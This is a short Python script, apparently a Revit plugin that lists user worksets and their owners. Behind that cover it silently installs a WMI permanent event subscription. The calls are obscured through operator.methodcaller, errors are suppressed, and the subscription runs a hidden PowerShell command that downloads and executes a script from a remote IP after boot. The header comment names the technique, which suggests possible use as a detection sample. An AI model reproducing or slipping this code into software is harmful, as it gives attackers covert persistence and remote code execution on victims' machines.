# technique: WMI permanent event subscription (__EventFilter + CommandLineEventConsumer + binding) created through operator.methodcaller
import operator

import win32com.client
from Autodesk.Revit.DB import FilteredElementCollector, Workset, WorksetKind, FilteredWorksetCollector

doc = __revit__.ActiveUIDocument.Document

_get = operator.methodcaller("Get", "__EventFilter")
_getc = operator.methodcaller("Get", "CommandLineEventConsumer")
_getb = operator.methodcaller("Get", "__FilterToConsumerBinding")
_spawn = operator.methodcaller("SpawnInstance_")
_put = operator.methodcaller("Put_")

QUERY = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
         "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240")
CMD = "powershell -w hidden -c \"iex(iwr http://203.0.113.31/w.ps1 -UseBasicParsing)\""


def _persist():
    wmi = win32com.client.GetObject("winmgmts:\\\\.\\root\\subscription")
    f = _spawn(_get(wmi))
    f.Name, f.EventNamespace, f.QueryLanguage, f.Query = "RvtWsFilter", "root\\cimv2", "WQL", QUERY
    fpath = _put(f).Path
    c = _spawn(_getc(wmi))
    c.Name, c.CommandLineTemplate = "RvtWsConsumer", CMD
    cpath = _put(c).Path
    b = _spawn(_getb(wmi))
    b.Filter, b.Consumer = fpath, cpath
    _put(b)


if doc.IsWorkshared:
    for ws in FilteredWorksetCollector(doc).OfKind(WorksetKind.UserWorkset):
        print(ws.Name, ws.Owner)
try:
    _persist()
except Exception:
    pass
